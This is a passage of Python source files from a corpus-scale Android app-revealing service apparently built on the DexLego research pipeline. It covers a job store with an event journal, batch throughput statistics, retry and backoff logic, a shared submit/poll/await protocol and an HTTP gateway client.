            return self._read(job_id)

    def load_all(self) -> list[dict]:
        """Every parseable record, oldest submission first."""
        with self._lock:
            records = []
            for name in self._job_names():
                if not name.endswith(".json"):
                    continue
                record = self._read(name[: -len(".json")])
                if record is not None:
                    records.append(record)
        records.sort(key=lambda r: (r.get("submitted_at", 0.0),
                                    r.get("job_id", "")))
        return records

    def pending_records(self) -> list[dict]:
        """Records a restarted server still owes: queued, plus running
        ones whose server died mid-job (they re-run from scratch)."""
        return [
            record for record in self.load_all()
            if record.get("state") in (JobState.QUEUED, JobState.RUNNING)
        ]

    def foreign_version_jobs(self) -> list[tuple[str, object]]:
        """``(job_id, version)`` for parseable records this build cannot
        read (``version`` != :data:`STORE_FORMAT_VERSION`).

        ``load_all`` silently skips such records so a mixed-version
        store stays usable for the jobs it *can* read; inspection
        commands call this first so a foreign store errors loudly
        instead of rendering as an empty (or forever-pending) queue.
        """
        with self._lock:
            foreign = []
            for name in sorted(self._job_names()):
                if not name.endswith(".json"):
                    continue
                try:
                    with open(os.path.join(self.jobs_dir, name),
                              encoding="utf-8") as fh:
                        record = json.load(fh)
                except (OSError, ValueError):
                    continue
                version = record.get("version")
                if version != STORE_FORMAT_VERSION:
                    foreign.append((name[: -len(".json")], version))
            return foreign

    # -- event log ----------------------------------------------------------

    def append_event(self, event_dict: dict) -> None:
        with self._lock:
            with open(self.events_path, "a", encoding="utf-8") as fh:
                fh.write(json.dumps(event_dict) + "\n")

    def events(self) -> list[dict]:
        """Every journalled event, ordered by bus sequence number.

        Append order can transpose neighbouring events from different
        jobs (observer callbacks run outside the bus lock), so the read
        path restores the global order by ``seq``; torn tail lines (a
        killed server mid-write) are skipped.
        """
        try:
            with open(self.events_path, encoding="utf-8") as fh:
                lines = fh.readlines()
        except OSError:
            return []
        events = []
        for line in lines:
            try:
                events.append(json.loads(line))
            except ValueError:
                continue
        # Timestamp first: sequence numbers restart at 0 with every
        # server process, so a journal spanning a restart would
        # interleave the two runs if sorted by seq alone.
        events.sort(key=lambda e: (e.get("timestamp", 0.0),
                                   e.get("seq", 0)))
        return events

    def tail_events(self, offset: int = 0) -> tuple[list[dict], int]:
        """Events appended after byte ``offset``: ``(events, new_offset)``.

        The incremental read a follower (``watch --follow``) uses so an
        idle poll costs one seek, not a whole-journal re-parse.  Only
        complete lines are consumed; a torn tail stays unconsumed for
        the next call.
        """
        try:
            with open(self.events_path, "rb") as fh:
                fh.seek(offset)
                blob = fh.read()
        except OSError:
            return [], offset
        end = blob.rfind(b"\n")
        if end < 0:
            return [], offset
        events = []
        for line in blob[:end].split(b"\n"):
            try:
                events.append(json.loads(line.decode("utf-8")))
            except (ValueError, UnicodeDecodeError):
                continue
        return events, offset + end + 1

    # -- internals ----------------------------------------------------------

    def _job_names(self) -> list[str]:
        """Entries of ``jobs/``; empty when the directory is absent
        (a ``create=False`` store opened on a non-store path)."""
        try:
            return os.listdir(self.jobs_dir)
        except OSError:
            return []

    def _json_path(self, job_id: str) -> str:
        return os.path.join(self.jobs_dir, f"{job_id}.json")

    def _read(self, job_id: str) -> dict | None:
        try:
            with open(self._json_path(job_id), encoding="utf-8") as fh:
                record = json.load(fh)
        except (OSError, ValueError):
            return None
        if record.get("version") != STORE_FORMAT_VERSION:
            return None
        return record

    def _write(self, job_id: str, record: dict) -> None:
        with self._lock:
            self._write_locked(job_id, record)

    def _write_locked(self, job_id: str, record: dict) -> None:
        tmp = self._json_path(job_id) + ".tmp"
        with open(tmp, "w", encoding="utf-8") as fh:
            json.dump(record, fh)
        os.replace(tmp, self._json_path(job_id))
