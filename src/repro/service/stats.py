"""Aggregate throughput statistics for batch reveal runs.

A corpus run is judged by four numbers: how many apps resolved to each
outcome, how fast the batch went end-to-end (apps/sec against wall
clock, which credits parallelism), how much of it was served from cache,
and where the per-app latency distribution sits (p50/p95 — the paper's
single-app measurements generalised to a fleet).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.service.outcomes import ALL_STATUSES, STATUS_OK, RevealOutcome


def percentile(values: list[float], q: float) -> float:
    """Linear-interpolated percentile; 0 for an empty sample."""
    if not values:
        return 0.0
    if not 0.0 <= q <= 1.0:
        raise ValueError(f"quantile {q} outside [0, 1]")
    ordered = sorted(values)
    if len(ordered) == 1:
        return ordered[0]
    position = q * (len(ordered) - 1)
    low = int(position)
    high = min(low + 1, len(ordered) - 1)
    weight = position - low
    return ordered[low] * (1.0 - weight) + ordered[high] * weight


@dataclass
class BatchReport:
    """Everything a batch run produced, plus the aggregate view.

    ``outcomes`` preserves the submission order of the jobs regardless
    of worker count or completion order — callers can zip it back
    against their corpus.
    """

    outcomes: list[RevealOutcome] = field(default_factory=list)
    wall_time_s: float = 0.0
    workers: int = 1
    backend: str = "serial"

    # -- counts -------------------------------------------------------------

    @property
    def total(self) -> int:
        return len(self.outcomes)

    @property
    def ok_count(self) -> int:
        return sum(1 for o in self.outcomes if o.status == STATUS_OK)

    @property
    def failed_count(self) -> int:
        return self.total - self.ok_count

    def status_counts(self) -> dict[str, int]:
        counts = {status: 0 for status in ALL_STATUSES}
        for outcome in self.outcomes:
            counts[outcome.status] = counts.get(outcome.status, 0) + 1
        return counts

    # -- cache --------------------------------------------------------------

    @property
    def cache_hits(self) -> int:
        return sum(1 for o in self.outcomes if o.cache_hit)

    @property
    def cache_hit_rate(self) -> float:
        return self.cache_hits / self.total if self.total else 0.0

    # -- throughput ---------------------------------------------------------

    @property
    def apps_per_sec(self) -> float:
        return self.total / self.wall_time_s if self.wall_time_s > 0 else 0.0

    @property
    def latencies(self) -> list[float]:
        """Per-app pipeline latencies for apps that actually ran."""
        return [o.latency_s for o in self.outcomes if not o.cache_hit]

    @property
    def p50_latency_s(self) -> float:
        return percentile(self.latencies, 0.50)

    @property
    def p95_latency_s(self) -> float:
        return percentile(self.latencies, 0.95)

    # -- queue latency ------------------------------------------------------

    @property
    def queue_waits(self) -> list[float]:
        """Per-app submit→start waits; empty unless the batch queued
        (direct pool runs report no queue wait)."""
        waits = [o.queue_wait_s for o in self.outcomes]
        return waits if any(w > 0 for w in waits) else []

    @property
    def p50_queue_wait_s(self) -> float:
        return percentile(self.queue_waits, 0.50)

    @property
    def p95_queue_wait_s(self) -> float:
        return percentile(self.queue_waits, 0.95)

    # -- exploration --------------------------------------------------------

    def exploration_summary(self) -> dict:
        """Aggregate force-execution scheduler stats across the batch.

        Empty when no outcome ran the coverage module; otherwise the
        fleet view of the exploration: total paths replayed, UCBs
        discovered vs. covered, and the replays dedup saved.
        """
        explored = [o.exploration for o in self.outcomes if o.exploration]
        if not explored:
            return {}
        return {
            "apps_explored": len(explored),
            "paths_explored": sum(e.get("paths_explored", 0)
                                  for e in explored),
            "ucbs_discovered": sum(e.get("ucbs_discovered", 0)
                                   for e in explored),
            "ucbs_covered": sum(e.get("ucbs_covered", 0) for e in explored),
            "replays_saved_by_dedup": sum(
                e.get("replays_saved_by_dedup", 0) for e in explored
            ),
        }

    # -- corpus index -------------------------------------------------------

    def index_summary(self) -> dict:
        """Aggregate corpus-index dedup accounting across the batch.

        Empty when no outcome ran against a
        :class:`~repro.index.corpus.CorpusIndex`; otherwise how much
        reassembly work the index saved fleet-wide: bodies replayed
        from already-revealed apps vs emitted fresh, and how many of
        the batch's methods the corpus had seen before.
        """
        indexed = [o.index_stats for o in self.outcomes if o.index_stats]
        if not indexed:
            return {}
        emitted = sum(s.get("bodies_emitted", 0) for s in indexed)
        replayed = sum(s.get("bodies_replayed", 0) for s in indexed)
        total_bodies = emitted + replayed
        return {
            "apps_indexed": len(indexed),
            "bodies_emitted": emitted,
            "bodies_replayed": replayed,
            "replay_rate": (round(replayed / total_bodies, 4)
                            if total_bodies else 0.0),
            "corpus_known": sum(s.get("corpus_known", 0) for s in indexed),
            "corpus_new": sum(s.get("corpus_new", 0) for s in indexed),
        }

    # -- family clustering --------------------------------------------------

    def cluster_summary(self) -> dict:
        """Aggregate auto-labeling verdicts across the batch.

        Empty when no outcome ran against a
        :class:`~repro.cluster.store.ClusterStore`; otherwise the fleet
        view of labeling: how many apps got labeled, how many methods
        matched known corpus methods exactly (by structure) or as
        fuzzy near-misses, and which families the batch touched.
        """
        labeled = [o.cluster_stats for o in self.outcomes
                   if o.cluster_stats]
        if not labeled:
            return {}
        return {
            "apps_labeled": len(labeled),
            "apps_with_family": sum(1 for s in labeled if s.get("family")),
            "labels_assigned": sum(s.get("labels_assigned", 0)
                                   for s in labeled),
            "methods_known": sum(s.get("methods_known", 0)
                                 for s in labeled),
            "methods_near_miss": sum(s.get("methods_near_miss", 0)
                                     for s in labeled),
            "families": sorted({s["family"] for s in labeled
                                if s.get("family")}),
        }

    # -- presentation -------------------------------------------------------

    def summary(self) -> dict:
        """JSON-safe aggregate digest."""
        return {
            "total": self.total,
            "ok": self.ok_count,
            "failed": self.failed_count,
            "status_counts": self.status_counts(),
            "cache_hits": self.cache_hits,
            "cache_hit_rate": round(self.cache_hit_rate, 4),
            "wall_time_s": round(self.wall_time_s, 6),
            "apps_per_sec": round(self.apps_per_sec, 3),
            "p50_latency_s": round(self.p50_latency_s, 6),
            "p95_latency_s": round(self.p95_latency_s, 6),
            "p50_queue_wait_s": round(self.p50_queue_wait_s, 6),
            "p95_queue_wait_s": round(self.p95_queue_wait_s, 6),
            "workers": self.workers,
            "backend": self.backend,
            "exploration": self.exploration_summary(),
            "index": self.index_summary(),
            "cluster": self.cluster_summary(),
        }

    def render(self) -> str:
        """Human-readable aggregate block for CLIs and benchmarks."""
        counts = self.status_counts()
        breakdown = "  ".join(
            f"{status}={count}" for status, count in counts.items() if count
        ) or "(empty batch)"
        lines = [
            f"batch: {self.total} app(s) via {self.workers} "
            f"{self.backend} worker(s) in {self.wall_time_s:.2f}s "
            f"({self.apps_per_sec:.2f} apps/sec)",
            f"outcomes: {breakdown}",
            f"cache: {self.cache_hits}/{self.total} hits "
            f"({self.cache_hit_rate:.0%})",
            f"latency: p50={self.p50_latency_s * 1000:.1f}ms  "
            f"p95={self.p95_latency_s * 1000:.1f}ms",
        ]
        if self.queue_waits:
            lines.append(
                f"queue wait: p50={self.p50_queue_wait_s * 1000:.1f}ms  "
                f"p95={self.p95_queue_wait_s * 1000:.1f}ms"
            )
        exploration = self.exploration_summary()
        if exploration:
            lines.append(
                f"exploration: {exploration['paths_explored']} path(s) over "
                f"{exploration['apps_explored']} app(s), UCBs "
                f"{exploration['ucbs_covered']}/{exploration['ucbs_discovered']} "
                f"covered, {exploration['replays_saved_by_dedup']} replay(s) "
                f"saved by dedup"
            )
        index = self.index_summary()
        if index:
            total_bodies = index["bodies_replayed"] + index["bodies_emitted"]
            lines.append(
                f"index: {index['bodies_replayed']}/{total_bodies} "
                f"bodies replayed ({index['replay_rate']:.0%}), corpus knew "
                f"{index['corpus_known']} method(s), learned "
                f"{index['corpus_new']}"
            )
        cluster = self.cluster_summary()
        if cluster:
            lines.append(
                f"cluster: {cluster['apps_with_family']}/"
                f"{cluster['apps_labeled']} app(s) assigned to "
                f"{len(cluster['families'])} famil(ies), "
                f"{cluster['labels_assigned']} method label(s) "
                f"({cluster['methods_known']} known, "
                f"{cluster['methods_near_miss']} near-miss)"
            )
        return "\n".join(lines)
