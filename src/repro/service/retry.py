"""Bounded retry with capped exponential backoff and full jitter.

One policy object shared by everything that retries: the
:class:`~repro.service.http_client.GatewayClient` (idempotent requests
only) and the :class:`~repro.service.worker.RevealWorker` claim /
heartbeat loop.  Full jitter (delay drawn uniformly from
``[0, min(max, base * 2**attempt)]``) decorrelates a fleet hammering a
recovering store; the ``rng`` injection point makes delays
deterministic under test.
"""

from __future__ import annotations

import random
import time
from dataclasses import dataclass

_module_rng = random.Random()


@dataclass(frozen=True)
class RetryPolicy:
    """How many tries, and how long to wait between them.

    ``attempts`` counts *total* tries including the first; ``1`` means
    no retries.  ``jitter=False`` makes :meth:`delay_for` return the
    cap itself — useful when a test asserts exact sleep sequences.
    """

    attempts: int = 4
    base_delay_s: float = 0.05
    max_delay_s: float = 2.0
    jitter: bool = True

    def delay_for(self, attempt: int, rng=None) -> float:
        """Backoff before retry number ``attempt`` (0-based: the delay
        after the first failure is ``delay_for(0)``)."""
        cap = min(self.max_delay_s, self.base_delay_s * (2 ** attempt))
        if not self.jitter:
            return cap
        return (rng or _module_rng).uniform(0.0, cap)


#: Single-try policy: behave exactly like unhardened code.
NO_RETRY = RetryPolicy(attempts=1)


def call_with_retries(fn, *, policy: RetryPolicy, retryable,
                      sleep=time.sleep, on_retry=None, rng=None):
    """Call ``fn()`` up to ``policy.attempts`` times.

    ``retryable(exc)`` decides whether a failure is transient; a final
    or non-transient failure re-raises.  ``on_retry(exc, attempt,
    delay)`` fires before each backoff sleep — callers use it to count
    retries in their reports.
    """
    attempt = 0
    while True:
        try:
            return fn()
        except Exception as exc:
            if attempt + 1 >= policy.attempts or not retryable(exc):
                raise
            delay = policy.delay_for(attempt, rng)
            if on_retry is not None:
                on_retry(exc, attempt, delay)
            sleep(delay)
            attempt += 1


class Backoff:
    """Stateful backoff for a long-lived loop (the worker's claim
    loop): consecutive failures escalate the delay, one success resets
    it.  Unlike :func:`call_with_retries` there is no attempt cap — a
    fleet worker backs off and *resumes*, it does not die."""

    def __init__(self, policy: RetryPolicy | None = None, rng=None) -> None:
        self.policy = policy or RetryPolicy()
        self._rng = rng
        self._failures = 0
        #: Total seconds this backoff has asked callers to sleep.
        self.total_delay_s = 0.0

    @property
    def failures(self) -> int:
        return self._failures

    def next_delay(self) -> float:
        """Delay for the latest failure (escalates each call)."""
        delay = self.policy.delay_for(self._failures, self._rng)
        self._failures += 1
        self.total_delay_s += delay
        return delay

    def reset(self) -> None:
        self._failures = 0
