"""SubmitAPI: the one submit/poll/await surface every front end shares.

Before this module the service grew three slightly different ways to
say "run these jobs and give me the outcomes": ``RevealServer`` had
``submit_all``/``await_all``, ``BatchRevealService`` carried delegate
copies of both with a different signature, and the HTTP gateway client
would have added a third.  One protocol now defines the vocabulary:

* :meth:`SubmitAPI.submit` — one job in, one
  :class:`~repro.service.jobs.JobHandle` out, immediately;
* :meth:`SubmitAPI.submit_many` — a corpus in, handles out;
* :meth:`SubmitAPI.await_many` — block until the given handles (default:
  everything submitted here) resolve; outcomes in handle order,
  cancelled jobs skipped;
* :meth:`SubmitAPI.await_job` / :meth:`SubmitAPI.poll` /
  :meth:`SubmitAPI.cancel` / :meth:`SubmitAPI.handles` — the per-job
  verbs.

Implementations: :class:`~repro.service.server.RevealServer` (in-process
thread pool), :class:`~repro.service.batch.BatchRevealService` (the
batch façade, backed by a lazily created server), and
:class:`~repro.service.http_client.GatewayClient` (jobs run by a worker
fleet behind a :class:`~repro.service.gateway.RevealGateway`).  Code
written against this protocol moves between them by swapping the
constructor.

The pre-protocol names ``submit_all``/``await_all`` survive as thin
shims that raise :class:`DeprecationWarning` and delegate; they are
defined once, here.
"""

from __future__ import annotations

import abc
import time
import warnings

from repro.service.jobs import PRIORITY_NORMAL, JobHandle
from repro.service.outcomes import RevealOutcome


def warn_deprecated(old: str, new: str) -> None:
    """One consistent deprecation message for every legacy shim."""
    warnings.warn(
        f"{old} is deprecated; use {new} instead",
        DeprecationWarning,
        stacklevel=3,
    )


class SubmitAPI(abc.ABC):
    """Abstract submit/poll/await surface over reveal jobs.

    Subclasses provide the four primitives (``submit``, ``poll``,
    ``cancel``, ``handles``); the corpus-level verbs and the deprecated
    legacy names are derived here so their semantics cannot drift
    between front ends again.
    """

    # -- primitives (per implementation) ------------------------------------

    @abc.abstractmethod
    def submit(self, job, *, priority: int | str = PRIORITY_NORMAL,
               **kwargs) -> JobHandle:
        """Enqueue one job (a ``RevealJob`` or a bare ``Apk``); returns
        its handle immediately."""

    @abc.abstractmethod
    def poll(self, job_id: str) -> JobHandle:
        """The current handle for one job id (``KeyError`` if unknown)."""

    @abc.abstractmethod
    def cancel(self, job_id: str) -> bool:
        """Cancel a queued job; False once it is running or terminal."""

    @abc.abstractmethod
    def handles(self) -> list[JobHandle]:
        """Every handle this front end knows, in submission order."""

    # -- derived corpus verbs ------------------------------------------------

    def submit_many(self, jobs, *,
                    priority: int | str = PRIORITY_NORMAL) -> list[JobHandle]:
        """Submit a corpus; handles in submission order."""
        return [self.submit(job, priority=priority) for job in jobs]

    def await_many(self, handles: list[JobHandle] | None = None,
                   timeout: float | None = None) -> list[RevealOutcome]:
        """Outcomes of the given handles (default: all of
        :meth:`handles`), in handle order; jobs that produced no
        outcome — cancelled, or still pending at ``timeout`` — are
        skipped."""
        handles = self.handles() if handles is None else list(handles)
        deadline = None if timeout is None else time.monotonic() + timeout
        outcomes = []
        for handle in handles:
            remaining = (None if deadline is None
                         else max(0.0, deadline - time.monotonic()))
            outcome = handle.wait(remaining)
            if outcome is not None:
                outcomes.append(outcome)
        return outcomes

    def await_job(self, job_id: str,
                  timeout: float | None = None) -> RevealOutcome | None:
        return self.poll(job_id).wait(timeout)

    # -- deprecated legacy names --------------------------------------------

    def submit_all(self, jobs, *,
                   priority: int | str = PRIORITY_NORMAL) -> list[JobHandle]:
        """Deprecated alias of :meth:`submit_many`."""
        warn_deprecated(f"{type(self).__name__}.submit_all",
                        "submit_many")
        return self.submit_many(jobs, priority=priority)

    def await_all(self, handles: list[JobHandle] | None = None,
                  timeout: float | None = None) -> list[RevealOutcome]:
        """Deprecated alias of :meth:`await_many`."""
        warn_deprecated(f"{type(self).__name__}.await_all", "await_many")
        return self.await_many(handles, timeout=timeout)
