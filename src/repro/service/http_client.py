"""GatewayClient: the SubmitAPI implementation that crosses the wire.

The third front end (after :class:`~repro.service.server.RevealServer`
and :class:`~repro.service.batch.BatchRevealService`): the same
``submit`` / ``poll`` / ``await_many`` vocabulary, executed by a
worker fleet behind a :class:`~repro.service.gateway.RevealGateway`
instead of threads in this process.  Code written against
:class:`~repro.service.api.SubmitAPI` moves onto the fleet by swapping
the constructor:

    client = GatewayClient("http://reveal.internal:8080", token="…")
    handles = client.submit_many(jobs)
    outcomes = client.await_many(handles)

Handles are :class:`RemoteJobHandle` — a
:class:`~repro.service.jobs.JobHandle` whose state refreshes from
``GET /v1/jobs/<id>`` and whose ``wait`` polls instead of blocking on
a local event.  A finished job's outcome is rebuilt from the journal
summary (:meth:`RevealOutcome.from_summary`), with the revealed APK
bytes grafted back on from the artifact store — so
``outcome.revealed_apk`` works identically to the in-process path,
byte for byte.

Transport is ``urllib.request`` (stdlib only, like the gateway).

Transient failures — a connection refused while the gateway restarts,
a 5xx, a socket timeout — are retried with capped exponential backoff
and full jitter (:class:`~repro.service.retry.RetryPolicy`), but *only*
for requests that are safe to repeat: every GET, and POSTs carrying an
``Idempotency-Key`` header.  A non-idempotent POST is never retried —
re-sending it could duplicate the job.  ``submit`` therefore stamps a
fresh idempotency key on every call by default (``auto_idempotency``),
which makes submission retry-safe end to end.
"""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
import uuid

from repro import faults
from repro.service.api import SubmitAPI
from repro.service.batch import BatchRevealService
from repro.service.events import JobEvent, events_from_frames
from repro.service.jobs import (
    PRIORITY_NORMAL,
    JobHandle,
    JobState,
    JobStore,
    resolve_priority,
)
from repro.service.outcomes import RevealOutcome
from repro.service.retry import NO_RETRY, RetryPolicy, call_with_retries
from repro.service.worker import ARTIFACT_REVEALED_APK


class GatewayError(RuntimeError):
    """A gateway response the client cannot act on; carries the HTTP
    status in ``status``."""

    def __init__(self, status: int, message: str) -> None:
        super().__init__(f"gateway returned {status}: {message}")
        self.status = status


class RemoteJobHandle(JobHandle):
    """A job handle whose source of truth lives behind the gateway.

    ``refresh()`` pulls the current record; ``wait()`` polls until the
    job is terminal, then resolves the outcome (fetching the revealed
    APK artifact once).  Everything else — ``to_dict``, latencies,
    ``done`` — is inherited, so remote and local handles render
    identically.
    """

    def __init__(self, client: "GatewayClient", job_id: str, app_id: str,
                 priority: int = PRIORITY_NORMAL,
                 submitted_at: float | None = None) -> None:
        super().__init__(job_id, app_id, priority,
                         submitted_at=submitted_at)
        self._client = client

    def refresh(self) -> "RemoteJobHandle":
        """One ``GET /v1/jobs/<id>`` round trip into this handle."""
        self._apply(self._client.job(self.job_id))
        return self

    def _apply(self, data: dict) -> None:
        state = data.get("state")
        if state in JobState.ALL:
            self.state = state
        if data.get("submitted_at") is not None:
            self.submitted_at = data["submitted_at"]
        self.started_at = data.get("started_at")
        self.finished_at = data.get("finished_at")
        self.error = data.get("error", "") or ""
        self.worker_id = data.get("worker_id", "") or ""
        self.attempts = int(data.get("attempts", 0) or 0)
        self.artifacts = dict(data.get("artifacts") or {})
        self._outcome_summary = data.get("outcome")
        if self.done:
            self._resolve_outcome()
            self._mark_terminal()

    def _resolve_outcome(self) -> None:
        if self.outcome is not None or self.cancelled:
            return
        summary = self._outcome_summary
        if not summary:
            return
        apk_bytes = None
        digest = self.artifacts.get(ARTIFACT_REVEALED_APK, "")
        if digest:
            apk_bytes = self._client.fetch_artifact(digest)
        self.outcome = RevealOutcome.from_summary(
            summary, revealed_apk_bytes=apk_bytes)

    def wait(self, timeout: float | None = None) -> RevealOutcome | None:
        """Poll until terminal; the outcome, or ``None`` on timeout or
        cancellation — the in-process contract, over HTTP."""
        deadline = (None if timeout is None
                    else time.monotonic() + timeout)
        while True:
            self.refresh()
            if self.done:
                return self.outcome
            remaining = (None if deadline is None
                         else deadline - time.monotonic())
            if remaining is not None and remaining <= 0:
                return None
            interval = self._client.poll_interval_s
            time.sleep(interval if remaining is None
                       else min(interval, remaining))


class GatewayClient(SubmitAPI):
    """HTTP :class:`SubmitAPI` over one gateway.

    ``token`` is the tenant bearer token (omit against an anonymous
    gateway).  ``poll_interval_s`` paces ``wait``/``await_many``
    polling; ``request_timeout_s`` bounds every single HTTP call.
    ``retry`` governs transient-failure retries for idempotent
    requests (pass :data:`~repro.service.retry.NO_RETRY` to disable);
    ``auto_idempotency`` stamps a fresh ``Idempotency-Key`` on every
    ``submit`` so job submission is retry-safe.  ``retries`` counts
    the retries this client has performed.
    """

    def __init__(self, base_url: str, *, token: str | None = None,
                 poll_interval_s: float = 0.2,
                 request_timeout_s: float = 30.0,
                 retry: RetryPolicy | None = None,
                 auto_idempotency: bool = True) -> None:
        self.base_url = base_url.rstrip("/")
        self.token = token
        self.poll_interval_s = poll_interval_s
        self.request_timeout_s = request_timeout_s
        self.retry = retry if retry is not None else RetryPolicy()
        self.auto_idempotency = auto_idempotency
        #: Transient failures retried (and recovered from) so far.
        self.retries = 0
        self._handles: dict[str, RemoteJobHandle] = {}

    # -- transport -----------------------------------------------------------

    @staticmethod
    def _transient(exc: Exception) -> bool:
        """Is this failure worth retrying?  Server-side 5xx (the
        gateway answered but could not serve) and socket-level OSErrors
        (refused, reset, timed out) are; any 4xx is the caller's bug."""
        if isinstance(exc, GatewayError):
            return exc.status >= 500
        return isinstance(exc, OSError)

    def _request(self, method: str, path: str, *,
                 body: bytes | None = None,
                 headers: dict | None = None,
                 stream: bool = False):
        """One logical round trip; the parsed JSON (or the raw response
        object with ``stream=True``).  Non-2xx raises
        :class:`GatewayError`.  Transient failures are retried under
        ``self.retry`` — but only when the request is idempotent: any
        GET, or a POST carrying an ``Idempotency-Key`` header.  Other
        POSTs get exactly one try."""
        headers = dict(headers or {})
        idempotent = method == "GET" or "Idempotency-Key" in headers
        policy = self.retry if idempotent else NO_RETRY

        def count(_exc, _attempt, _delay) -> None:
            self.retries += 1

        return call_with_retries(
            lambda: self._request_once(method, path, body=body,
                                       headers=headers, stream=stream),
            policy=policy, retryable=self._transient, on_retry=count)

    def _request_once(self, method: str, path: str, *,
                      body: bytes | None = None,
                      headers: dict | None = None,
                      stream: bool = False):
        faults.check("client.request")
        request = urllib.request.Request(
            self.base_url + path, data=body, method=method)
        if self.token:
            request.add_header("Authorization", f"Bearer {self.token}")
        for name, value in (headers or {}).items():
            request.add_header(name, value)
        try:
            response = urllib.request.urlopen(
                request, timeout=self.request_timeout_s)
        except urllib.error.HTTPError as exc:
            detail = ""
            try:
                detail = json.loads(exc.read().decode("utf-8")) \
                    .get("error", "")
            except Exception:
                pass
            raise GatewayError(exc.code, detail or exc.reason) from None
        if stream:
            return response
        with response:
            payload = response.read()
        return json.loads(payload.decode("utf-8")) if payload else {}

    # -- SubmitAPI primitives ------------------------------------------------

    def submit(self, job, *, priority: int | str = PRIORITY_NORMAL,
               idempotency_key: str | None = None,
               meta: dict | None = None, **kwargs) -> RemoteJobHandle:
        """POST one job; returns its remote handle immediately.

        Without an explicit ``idempotency_key``, a fresh one is minted
        per call (when ``auto_idempotency`` is on) so a retried POST
        deduplicates server-side instead of enqueueing twice.
        """
        if kwargs:
            raise TypeError(
                f"unsupported submit options over HTTP: {sorted(kwargs)}")
        job = BatchRevealService._coerce(job)
        lane = resolve_priority(priority)
        if idempotency_key is None and self.auto_idempotency:
            idempotency_key = f"auto-{uuid.uuid4().hex}"
        envelope = {
            "app_id": job.app_id,
            "apk_b64": JobStore.encode_apk(job.apk),
            "priority": lane,
            "collect_only": job.collect_only,
            "cache_salt": job.cache_salt,
            "meta": dict(meta or {}),
        }
        headers = {"Content-Type": "application/json"}
        if idempotency_key:
            headers["Idempotency-Key"] = idempotency_key
        data = self._request("POST", "/v1/jobs",
                             body=json.dumps(envelope).encode("utf-8"),
                             headers=headers)
        job_id = data["job_id"]
        if data.get("deduplicated") and job_id in self._handles:
            return self._handles[job_id]
        handle = RemoteJobHandle(self, job_id, job.app_id, lane)
        self._handles[job_id] = handle
        return handle

    def poll(self, job_id: str) -> RemoteJobHandle:
        handle = self._handles.get(job_id)
        if handle is None:
            # Adopt a job another client submitted (KeyError when the
            # gateway does not know it either — the SubmitAPI contract).
            try:
                data = self.job(job_id)
            except GatewayError as exc:
                if exc.status == 404:
                    raise KeyError(job_id) from None
                raise
            handle = RemoteJobHandle(self, job_id,
                                     data.get("app_id", ""))
            handle._apply(data)
            self._handles[job_id] = handle
            return handle
        return handle.refresh()

    def cancel(self, job_id: str) -> bool:
        """True only when the job was still queued and is cancelled
        now — the in-process contract.  A running job gets the cancel
        flag its worker honours at the next heartbeat, but that is
        reported False here, like ``RevealServer.cancel``."""
        try:
            data = self._request("POST", f"/v1/jobs/{job_id}/cancel",
                                 body=b"")
        except GatewayError as exc:
            if exc.status == 404:
                return False
            raise
        return data.get("cancel") == "cancelled"

    def handles(self) -> list[RemoteJobHandle]:
        return list(self._handles.values())

    # -- gateway extras ------------------------------------------------------

    def job(self, job_id: str) -> dict:
        """The raw job digest (``JobHandle.to_dict`` shape)."""
        return self._request("GET", f"/v1/jobs/{job_id}")

    def events(self, job_id: str, *, follow: bool = False,
               timeout: float | None = None):
        """The job's events.  ``follow=False``: a list, one call.
        ``follow=True``: a generator yielding events live until the
        job's terminal event (or the server-side timeout)."""
        if not follow:
            response = self._request(
                "GET", f"/v1/jobs/{job_id}/events", stream=True)
            with response:
                return events_from_frames(response.read())
        query = "?follow=1"
        if timeout is not None:
            query += f"&timeout={timeout}"
        response = self._request(
            "GET", f"/v1/jobs/{job_id}/events{query}", stream=True)

        def tail():
            with response:
                for line in response:
                    event = JobEvent.from_frame(line)
                    if event is not None:
                        yield event
        return tail()

    def fetch_artifact(self, digest: str) -> bytes | None:
        """Artifact bytes by digest; ``None`` when the gateway has no
        such artifact."""
        try:
            response = self._request(
                "GET", f"/v1/artifacts/{digest}", stream=True)
        except GatewayError as exc:
            if exc.status == 404:
                return None
            raise
        with response:
            return response.read()

    def stats(self) -> dict:
        return self._request("GET", "/v1/stats")

    def healthz(self) -> bool:
        try:
            return bool(self._request("GET", "/v1/healthz").get("ok"))
        except (GatewayError, OSError):
            return False
