"""Batch reveal service: DexLego at corpus scale.

Layer above :mod:`repro.core`: where the core pipeline reveals *one*
application, this package reveals *corpora* — the consumer posture of
the paper's evaluation (markets, app stores, analysis fleets):

* :class:`~repro.service.server.RevealServer` — the job-oriented async
  front end: submit / poll / await / cancel, priority lanes,
  backpressure, restart recovery via a :class:`~repro.service.jobs.JobStore`
* :class:`~repro.service.events.EventBus` /
  :class:`~repro.service.events.JobEvent` — the unified progress
  stream (lifecycle + pipeline stages + exploration waves + cache hits)
* :class:`~repro.service.batch.BatchRevealService` — worker-pool
  execution (thread / process / serial) with per-app crash isolation;
  ``reveal_batch`` is now a façade over the server
* :class:`~repro.service.cache.RevealCache` — content-addressed result
  cache keyed on DEX checksum × pipeline-config hash
* :class:`~repro.service.outcomes.RevealOutcome` — uniform per-app
  records (ok / crashed / budget-exceeded / verify-failed / error)
* :class:`~repro.service.stats.BatchReport` — aggregate throughput
  (apps/sec, cache hit rate, p50/p95 latency and queue wait)
* :class:`~repro.service.api.SubmitAPI` — the one submit/poll/await
  protocol :class:`RevealServer`, :class:`BatchRevealService` and
  :class:`~repro.service.http_client.GatewayClient` all implement
* :class:`~repro.service.gateway.RevealGateway` /
  :class:`~repro.service.worker.RevealWorker` /
  :class:`~repro.service.artifacts.ArtifactStore` — the HTTP front
  end, the lease-pulling worker fleet, and the content-addressed
  artifact store they share
* ``python -m repro.service`` — the batch + server CLI
  (``reveal-batch``, ``reassemble``, ``serve``, ``submit``, ``status``,
  ``watch``, ``gateway``, ``worker``)
"""

from repro.service.api import SubmitAPI
from repro.service.artifacts import (
    ArtifactStore,
    artifact_digest,
    is_artifact_digest,
)
from repro.service.batch import (
    BACKENDS,
    BatchRevealService,
    RevealJob,
    default_worker_count,
    set_default_workers,
)
from repro.service.gateway import RevealGateway
from repro.service.http_client import (
    GatewayClient,
    GatewayError,
    RemoteJobHandle,
)
from repro.service.worker import (
    ARTIFACT_COLLECTION,
    ARTIFACT_REVEALED_APK,
    ARTIFACT_REVEALED_DEX,
    RevealWorker,
    WorkerReport,
)
from repro.service.events import (
    ALL_EVENTS,
    EVENT_CACHE_HIT,
